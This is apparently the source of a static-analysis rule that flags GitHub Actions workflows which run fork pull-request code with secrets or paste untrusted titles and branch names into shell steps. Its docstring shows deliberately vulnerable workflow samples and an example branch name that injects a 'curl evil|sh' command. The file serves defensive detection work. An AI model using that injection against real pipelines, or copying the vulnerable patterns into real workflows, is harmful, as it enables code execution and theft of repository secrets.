"""A workflow with secrets runs what strangers send.

## What it finds

GitHub workflows that start with the secrets and the writing token of the repository (`pull_request_target`, `workflow_run`,
`issue_comment`), and check out
the head of the pull request; and scripts that paste what a stranger wrote (title, branch name, comment) into a shell.

## Why it matters

A pull request from a fork changes the build script, and the pipeline runs it with the secrets. A branch called `x";curl
evil|sh;"` becomes a
command.

## Bad

```github .github/workflows/preview.yml
on: pull_request_target
permissions: {contents: read}
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
        env:
          TOKEN: ${{ secrets.DEPLOY_TOKEN }}
```

```github .github/workflows/title.yml
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
```

## Good

```github .github/workflows/preview.yml
on: pull_request
permissions: {contents: read}
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
```

## How to fix

Build pull requests with `pull_request`, which has no secrets. What needs secrets runs in a second workflow that never
checks out the change.
Hand over texts by `env`, never by pasting them into `run`.

## What it cannot see

What a script does with a file that it downloads, and checks of who may start the workflow that stand in a script.

## References

- CWE-829 Inclusion of Functionality from Untrusted Control Sphere, CWE-94 Code Injection
- OWASP CICD-SEC-4 Poisoned Pipeline Execution
- GitHub Security Lab, "Preventing pwn requests"
"""

import re
from collections.abc import Iterator
from typing import TypeAlias

from assay.model.change import Job, Pipeline, Task
from assay.model.place import Step
from assay.model.program import Inventory
from assay.model.verdict import Confidence, Outcome, Severity, Verdict
from assay.plugins.rule import Rule
from assay.rules.deliveries import GITHUB, DeliverySheet, looked_at

SHEET = DeliverySheet("AP608", "insecure-ci-workflow")
PRIVILEGED = frozenset(
    {"pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"}
)
HEAD = re.compile(
    r"github\.head_ref|pull_request\.head\.(?:sha|ref)|merge_commit_sha|refs/pull/|workflow_run\.(?:head_sha|head_branch|head_commit)|head\.repo\.full_name"
)
FETCHED = re.compile(
    r"\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|pull)\b[^\n]*(?:refs/pull/|pull/\$|pull_request\.head|head_ref|HEAD_SHA)"
)
PASTED = re.compile(
    r"\$\{\{[^}]*\b(?:github\.event\.(?:issue|pull_request|discussion|comment|review|review_comment|head_commit|commits)[\w.*\[\]]*\.(?:title|body|message|ref|label|name|email)"
    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)|github\.head_ref)\b[^}]*\}\}"
)
"""What strangers write. Source: GitHub Docs, "Script injections"."""
ASKED = re.compile(r"author_association|github\.actor\b|sender\.login|\blabels?\b|triggering_actor")
"""Conditions by which an owner lets only some start it."""
Weight: TypeAlias = tuple[Severity, Confidence]
FIX = "Build pull requests without secrets (pull_request), and hand texts over by env."


def verdicts(inventory: Inventory) -> Iterator[Verdict]:
    """A verdict for each GitHub workflow."""
    for delivery in looked_at(inventory):
        yield from SHEET.unread(delivery)
        for pipeline in delivery.pipelines:
            if pipeline.system == GITHUB and not pipeline.fault:
                yield _verdict(pipeline)


def _verdict(pipeline: Pipeline) -> Verdict:
    symbol = f"{pipeline.path} strangers"
    faults = [fault for job in pipeline.jobs for fault in _faults(pipeline, job)]
    if not faults:
        return SHEET.verdict(
            symbol, Outcome.PASS, f"{pipeline.path} runs nothing that strangers send with its secrets.", pipeline.place
        )
    weight, _, text = min(faults, key=lambda each: (each[0][0].rank, each[0][1]))
    steps = tuple(Step(told, task.place) for _, task, told in faults)
    return SHEET.failure(symbol, f"{pipeline.path}: {text}.", weight, fix=FIX, steps=steps)


def _faults(pipeline: Pipeline, job: Job) -> Iterator[tuple[Weight, Task, str]]:
    events = {trigger.event for trigger in pipeline.triggers}
    privileged = events & PRIVILEGED
    checkout = next((task for task in job.tasks if _is_of_stranger(task)), None) if privileged else None
    if checkout:
        named = sorted({name for task in job.tasks for name in task.secrets} | set(job.secrets))
        given = f" with the secrets {', '.join(named)}" if named else ""
        text = f"{job.name} checks out the code of a pull request on {', '.join(sorted(privileged))}{given}"
        if any(ASKED.search(condition) for condition in (job.condition, *(task.condition for task in job.tasks))):
            yield (Severity.MEDIUM, Confidence.TENTATIVE), checkout, f"{text}, where a condition asks who started it"
        else:
            yield (Severity.CRITICAL if named else Severity.HIGH, Confidence.FIRM), checkout, text
    for task in job.tasks:
        if PASTED.search(task.run):
            # A fork's pull request has neither secrets nor a writing token there, so that only the runner is at stake.
            weight = (Severity.HIGH if privileged else Severity.MEDIUM, Confidence.FIRM)
            yield weight, task, f"{job.name} pastes what a stranger wrote into a shell"


def _is_of_stranger(task: Task) -> bool:
    return bool(task.uses.startswith("actions/checkout@") and HEAD.search(task.ref)) or bool(FETCHED.search(task.run))


RULE = Rule(
    id="AP608",
    name="untrusted-code-in-workflow",
    title="A workflow with secrets runs what strangers send",
    weakness=SHEET.weakness,
    severity=Severity.HIGH,
    family="workflow-strangers",
    specificity=10,
    judge=verdicts,
    frameworks=(GITHUB,),
    statement="workflows run nothing of strangers with their secrets",
)
